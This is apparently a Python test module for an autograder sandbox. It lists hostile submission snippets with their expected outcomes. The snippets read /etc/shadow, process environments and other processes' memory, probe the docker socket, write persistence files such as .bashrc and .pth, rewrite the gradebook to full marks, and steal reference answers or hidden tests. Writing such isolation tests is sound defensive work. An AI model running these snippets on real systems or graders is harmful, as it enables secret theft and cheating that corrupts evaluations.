"""Code that reads what is none of its business: files, processes, environment, network, tests.

What it finds, it prints: a token in any output, verdict or page shows that it got out.
"""

from tests.hostile.kit import (
    ALL,
    FIRST,
    LOSES_FIRST,
    NOTHING,
    REST,
    Attack,
    Expect,
    everything_but_first,
    forged,
    in_answer,
)

SECRETS = """
for path in ("@SECRET@", "@OTHER@", "/etc/shadow", "/root/.bash_history", "@COURSE@/.git/config",
             "@COURSE@/autograder/gradebook.db", "/proc/1/environ", "/proc/1/cmdline"):
    try: print(path, open(path, "rb").read(4000))
    except OSError as error: print(path, type(error).__name__)
return None
"""
# The reference answers, wherever they may lie, and their use.
SOLUTIONS = """
import glob, json, os, pathlib, sys
places = ["@COURSE@", os.getcwd(), "/", os.path.expanduser("~"), *sys.path]
places += [str(parent) for parent in pathlib.Path(sys.modules["lens"].__file__).parents]
for place in places:
    for pattern in ("solutions/*/*/*.ipynb", "chapters/*/exercises.py", "course/chapters/*/*.py",
                    "submitted/*/*/*.ipynb", "autograder/*/*/*/*.ipynb", "*.ipynb", "*/*.ipynb"):
        for path in glob.glob(os.path.join(place, pattern)):
            try: text = open(path).read()
            except OSError: continue
            print("FOUND", path, len(text))
            if not path.endswith(".ipynb"): continue
            for cell in json.loads(text)["cells"]:
                source = "".join(cell["source"])
                if cell["cell_type"] == "code" and "def " in source and "lens." not in source:
                    try: exec(source, globals())
                    except Exception: pass
"""
STOLEN = {
    name: f"{name} = globals().get('{name}') or (lambda *args: None)" for name in (FIRST, *REST)
}
ENVIRONMENT = """
import os, sys
print(dict(os.environ))
print(os.environ.get("@VARIABLE@"), sys.argv, sys.orig_argv)
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline", "maps", "status", "cwd", "root", "exe"):
        path = f"/proc/{pid}/{name}"
        try: print(path, os.readlink(path) if name in ("cwd", "root", "exe") else
                   open(path, "rb").read(3000))
        except OSError: pass
return None
"""
DESCRIPTORS = """
import os
for number in range(0, 300):
    try: target = os.readlink(f"/proc/self/fd/{number}")
    except OSError: continue
    print(number, target)
    if number < 3: continue
    try: print(os.pread(number, 1000, 0))
    except OSError: pass
    for name in (".", "..", "../..", "../../submitted", "../solutions"):
        try: print(os.listdir(os.open(name, os.O_RDONLY, dir_fd=number)))
        except (OSError, NotADirectoryError): pass
return None
"""
MEMORY_OF_OTHERS = """
import os, re
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid(): continue
    try:
        maps = open(f"/proc/{pid}/maps").read()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for line in maps.splitlines()[:200]:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(start)
            data = memory.read(min(end - start, 1 << 20))
            for found in re.findall(rb"token-[0-9a-f]{16,}", data): print(pid, found)
    except (OSError, ValueError, OverflowError): pass
return None
"""
# The process was forked from one that has imported much: what did it leave behind?
OWN_MEMORY = """
import gc, re
def pages():
    for line in open("/proc/self/maps"):
        span, rights, *_ = line.split()
        if rights.startswith("rw"):
            yield [int(part, 16) for part in span.split("-")]
with open("/proc/self/mem", "rb", 0) as memory:
    for start, end in list(pages()):
        try:
            memory.seek(start)
            data = memory.read(min(end - start, 64 << 20))
        except (OSError, ValueError, OverflowError): continue
        for found in re.findall(rb"token-[0-9a-f]{16,}", data): print("MEMORY", found)
        if b"BEGIN SOL" + b"UTION" in data: print("MEMORY holds a reference answer")
return None
"""
NETWORK = """
import os, socket
def attempt(family, kind, address):
    try:
        with socket.socket(family, kind) as made:
            made.settimeout(0.5)
            made.connect(address)
            made.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            print("CONNECTED", address)
    except OSError as error: print(address, error)
attempt(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@))
attempt(socket.AF_INET6, socket.SOCK_STREAM, ("::1", @PORT@))
attempt(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", @PORT@))
attempt(socket.AF_INET, socket.SOCK_STREAM, ("10.0.0.1", 80))
attempt(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@))
attempt(socket.AF_UNIX, socket.SOCK_STREAM, "\\0@SOCKET@")
attempt(socket.AF_UNIX, socket.SOCK_STREAM, "@SECRET@.sock")
for path in ("/run/docker.sock", "/var/run/dbus/system_bus_socket", "/run/systemd/notify",
             os.environ.get("AUTOGRADER_FORK_SERVER", "/none")):
    attempt(socket.AF_UNIX, socket.SOCK_STREAM, path)
for number in (16, 17, 38, 40):
    try: socket.socket(number, socket.SOCK_RAW); print("SOCKET", number)
    except OSError: pass
return None
"""
WRITES = """
import os, site, sys, pathlib
lens = pathlib.Path(sys.modules["lens"].__file__)
places = [lens, lens.with_name("outcomes.py"), pathlib.Path(sys.executable), pathlib.Path("/etc/x"),
          pathlib.Path("@SECRET@"), pathlib.Path("@COURSE@/autograder/gradebook.db"),
          pathlib.Path("@OTHER@"), pathlib.Path("/tmp/left"), pathlib.Path("/dev/shm/left"),
          pathlib.Path("/var/tmp/left"), *(pathlib.Path(p) / "x.pth" for p in sys.path),
          pathlib.Path("~/.ipython/profile_default/startup/x.py").expanduser(),
          pathlib.Path("~/.bashrc").expanduser(), pathlib.Path("@COURSE@/nbgrader_config.py")]
for path in places:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "a") as file: file.write("\\n# written by @MARKER@\\n")
    except OSError: pass
    try: os.chmod(path, 0o777)
    except OSError: pass
    for act in (os.unlink, os.rmdir):
        try: act(path)
        except OSError: pass
return None
"""
LEAVE = """
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd(), "/run",
               os.environ.get("TMPDIR", "/tmp")):
    try:
        with open(os.path.join(folder, "answers-for-you"), "w") as file: file.write("@MARKER@")
    except OSError: pass
return None
"""
FIND = """
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd(), "/run",
               os.environ.get("TMPDIR", "/tmp")):
    path = os.path.join(folder, "answers-for-you")
    if os.path.exists(path): print("LEFT", path, open(path).read())
    try: print(os.listdir(folder))
    except OSError: pass
return None
"""
SHARED = """
from multiprocessing import shared_memory
import ctypes, os
libc = ctypes.CDLL(None)
print("SEGMENT", libc.shmget(0x4853, 4096, 0o1666))
segment = libc.shmget(0x4853, 4096, 0o0666)
print("QUEUE", libc.msgget(0x4853, 0o1666))
return None
"""
GRADEBOOK = """
import sqlite3
for url in ("@COURSE@/autograder/gradebook.db", "file:@COURSE@/autograder/gradebook.db?mode=rw"):
    try:
        with sqlite3.connect(url, uri=url.startswith("file")) as book:
            book.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
            print("CHANGED the gradebook")
    except sqlite3.Error as error: print(error)
try:
    from nbgrader.api import Gradebook
    Gradebook("sqlite:///@COURSE@/autograder/gradebook.db").close()
except Exception as error: print(type(error).__name__)
return None
"""
# Hidden tests stand in the kernel while they run: they can be read, and shown.
TELL_TESTS = """
print(get_ipython().user_ns["In"][-1])
return None
"""
TELL_FRAMES = """
import sys, inspect
frame = sys._getframe(1)
while frame:
    try: print(inspect.getsource(frame))
    except (OSError, TypeError): pass
    print({name: repr(value)[:200] for name, value in frame.f_locals.items()})
    frame = frame.f_back
return None
"""
REFERENCE = """
import gc, types
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__name__ in (
            "make_grid", "one_hot", "pad_border") and thing.__module__ != "__main__":
        print("FOUND", thing)
        globals()[thing.__name__] = thing
"""


def _reads(name: str, does: str, body: str, expect: Expect = LOSES_FIRST) -> Attack:
    return Attack(f"read-{name}", "code: reading and writing outside", does,
                  everything_but_first(body), expect)  # fmt: skip


CORPUS = (
    _reads("secrets", "reads secrets, other students, the gradebook", SECRETS),
    Attack("read-solutions", "code: reading and writing outside",
        "looks for the reference answers everywhere, and uses them",
        forged(answers=STOLEN, extra=SOLUTIONS), NOTHING),
    Attack("read-references", "code: reading and writing outside",
        "looks for the reference answers in the objects of the process",
        forged(answers=STOLEN, extra=REFERENCE), NOTHING),
    _reads("environment", "reads the environment and /proc", ENVIRONMENT),
    _reads("descriptors", "reads through inherited descriptors", DESCRIPTORS),
    _reads("memory-others", "reads the memory of other processes", MEMORY_OF_OTHERS),
    _reads("memory-own", "searches its own memory for what the fork left there", OWN_MEMORY,
        Expect(earns=REST, may_earn=())),
    _reads("network", "connects to every door that it knows", NETWORK),
    _reads("writes", "writes to, unlocks and removes what it knows", WRITES),
    _reads("1-leaves", "leaves files for those who come after", LEAVE),
    _reads("2-finds", "looks for what others left", FIND),
    _reads("segments", "leaves shared memory and queues", SHARED),
    _reads("gradebook", "writes its points into the gradebook", GRADEBOOK),
    _reads("tells-tests", "prints the running test, hidden lines included", TELL_TESTS),
    _reads("tells-frames", "prints the sources and values of the frames above it", TELL_FRAMES),
    Attack("read-history", "code: reading and writing outside", "prints all sources at the end",
        forged(right=ALL, before="noisy_line", extra="print('\\n'.join(In))"),
        Expect(earns=ALL)),
    Attack("read-writes-tests", "code: reading and writing outside",
        "answers by the text of the test that runs",
        forged(answers=in_answer("import inspect, sys\nframe = sys._getframe(1)\n"
               "while frame.f_code.co_name != '<module>': frame = frame.f_back\n"
               "frame.f_globals['lens'].passed()\nreturn None")), NOTHING),
)  # fmt: skip
